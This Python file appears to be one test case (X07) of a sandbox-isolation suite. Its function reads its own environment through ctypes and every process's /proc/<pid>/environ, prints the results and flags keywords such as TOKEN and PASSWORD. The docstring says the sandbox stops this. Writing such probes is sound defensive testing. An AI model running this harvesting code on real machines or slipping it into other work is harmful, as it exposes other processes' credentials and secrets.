"""X07: read secrets from the environment

Stopped by: the environment of everything in a sandbox is made from nothing, that of its launcher too.
"""

import ctypes
import os


def attacked(numbers):
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    found, position = dict(os.environ), 0
    while environ[position]:
        found[environ[position]] = b""
        position += 1
    for number in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{number}/environ", "rb") as file:
                found[number] = file.read()
        except OSError:
            continue
    print(found)
    if any(word in repr(found).upper() for word in ("SECRET", "DATABASE", "BROKER", "TOKEN", "PASSWORD")):
        print("GOT a secret")
    return numbers
